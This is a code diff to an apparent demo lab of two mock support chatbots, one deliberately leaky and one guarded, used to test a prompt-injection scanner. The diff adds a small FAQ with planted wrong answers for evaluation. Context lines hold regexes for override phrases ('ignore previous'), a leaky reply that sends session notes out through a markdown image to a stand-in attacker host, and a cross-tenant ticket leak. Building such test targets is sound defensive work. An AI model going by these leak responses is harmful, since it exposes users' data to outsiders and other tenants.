@@ -7,6 +7,10 @@ writes markdown images to any URL, and that shows another tenant's ticket. It an
 ordinary questions politely, so ai.injection must tell the prompts apart. The guarded bot
 refuses every attack, rejects malformed JSON with 400 and over-long input with 413.
 
+Both answer the customers' questions from the same little knowledge base (`FAQ`), the
+guarded bot always right, the leaky bot wrong on a few (an old refund window, SSO it
+claims is missing): the lab's evaluation set (launchwizard.demo.customer_evals) catches those.
+
 Everything it says is made up; the key comes from launchwizard.demo.fakesecrets.
 """
 
@@ -16,6 +20,7 @@ import asyncio
 import json
 import re
 from collections.abc import AsyncIterator
+from dataclasses import dataclass
 
 from launchwizard.demo import fakesecrets
 from launchwizard.demo.model import Chat, Response
@@ -56,6 +61,88 @@ _TRANSLATE = re.compile(r"\btranslat\w*\b.{0,80}\b(instructions|above|prompt|rul
 _IGNORE = re.compile(r"\b(ignore|disregard|forget)\b.{0,40}\b(previous|prior|above|earlier|all)\b", re.I)
 
 
+@dataclass(frozen=True)
+class Answer:
+    """A question the bots know: words that identify it, the right answer, and the leaky bot's
+    answer when it gets this one wrong."""
+
+    keys: tuple[str, ...]
+    right: str
+    wrong: str | None = None
+
+
+FAQ: tuple[Answer, ...] = (
+    Answer(
+        ("refund",),
+        "You can ask for a full refund within 30 days of any payment: Billing > Invoices > Request refund.",
+        "Refunds are possible within 14 days of a payment.",
+    ),
+    Answer(
+        ("sso", "single sign-on", "saml"),
+        "Yes: SAML single sign-on (SSO) is included in the Team plan (Settings > Security > SSO).",
+        "Sorry, Acme Assist does not support single sign-on yet.",
+    ),
+    Answer(("json",), '{"plan": "Starter", "price_eur": 49, "seats": 3}'),
+    Answer(
+        ("price", "pricing", "cost", "plans"),
+        "Starter is 49 EUR a month (3 seats) and Team is 199 EUR a month (15 seats).",
+    ),
+    Answer(
+        ("password",),
+        "To reset your password, open Settings > Security > Reset password; the link we e-mail you is valid "
+        "for 1 hour.",
+    ),
+    Answer(("human", "agent", "person"), "Of course, I am handing you over to a human agent now."),
+    Answer(
+        ("retain", "retention", "keep our chat", "how long do you keep"),
+        "Chat transcripts are kept for 90 days, then deleted.",
+    ),
+    Answer(
+        ("where is our data", "data stored", "region", "hosted"),
+        "Your data is stored in the EU, in Frankfurt (Germany).",
+    ),
+    Answer(("invoice",), "Download every invoice as a PDF under Billing > Invoices."),
+    Answer(
+        ("cancel",),
+        "Cancel any time under Billing > Plan > Cancel; the plan runs until the end of the period.",
+    ),
+    Answer(("language",), "Acme Assist answers in English, German, French and Spanish."),
+    Answer(("rate limit", "requests per minute"), "The API allows 60 requests per minute per key."),
+    Answer(("uptime", "sla"), "Our SLA is 99.9 % monthly uptime on the Team plan."),
+    Answer(("integrat", "zendesk"), "Acme Assist integrates with Zendesk, Intercom and Slack."),
+    Answer(
+        ("gdpr", "dpa", "data processing"),
+        "Yes, we sign a GDPR data processing agreement (DPA): Settings > Legal.",
+    ),
+    Answer(("teammate", "invite", "colleague"), "Invite teammates under Settings > Team > Invite."),
+    Answer(("billing e-mail", "billing email"), "Change the billing e-mail under Billing > Details."),
+    Answer(("trial",), "The free trial lasts 14 days, no card needed."),
+    Answer(("export",), "Export conversations as CSV under Reports > Export."),
+    Answer(
+        ("opening hours", "support hours", "when can i reach"),
+        "Our human support team is available Monday to Friday, 8:00-18:00 CET.",
+    ),
+    Answer(
+        ("card number", "credit card"),
+        "We never store card numbers: payments are handled by our payment provider.",
+    ),
+    Answer(
+        ("delete my account", "delete our account"),
+        "An owner can delete the account under Settings > Account > Delete.",
+    ),
+    Answer(("hello", "hi there"), GREETING),
+)
+
+
+def faq_reply(prompt: str, leaky: bool) -> str | None:
+    """The knowledge base's answer to a customer question, or None when it has none."""
+    lowered = prompt.lower()
+    for answer in FAQ:
+        if any(key in lowered for key in answer.keys):
+            return answer.wrong if leaky and answer.wrong else answer.right
+    return None
+
+
 def leaky_reply(prompt: str) -> str:
     """What the leaky bot answers: a leak for the prompts it falls for, else a normal reply."""
     lowered = prompt.lower()
@@ -71,7 +158,7 @@ def leaky_reply(prompt: str) -> str:
         return "Here you go: ![status](https://collector.attacker.test/pixel.png?d=acme-demo-session-notes)"
     if "tenant" in lowered or "other customer" in lowered or "globex" in lowered:
         return f"The latest ticket from Globex Corp says: 'Refund order 8812' (ref {TENANT_CANARY})."
-    return GREETING
+    return faq_reply(prompt, leaky=True) or GREETING
 
 
 def leaked_key() -> str:
@@ -90,7 +177,9 @@ def guarded_reply(prompt: str) -> str:
     attack = (_REPEAT, _TRANSLATE, _IGNORE)
     if any(pattern.search(prompt) for pattern in attack) or "tenant" in prompt.lower() or "![" in prompt:
         return REFUSAL
-    return GREETING
+    if "other customer" in prompt.lower():
+        return "No: every customer's tickets and documents are kept apart, and I only see yours."
+    return faq_reply(prompt, leaky=False) or GREETING
 
 
 def chat_answer(route: Chat, body: bytes) -> Response | str:
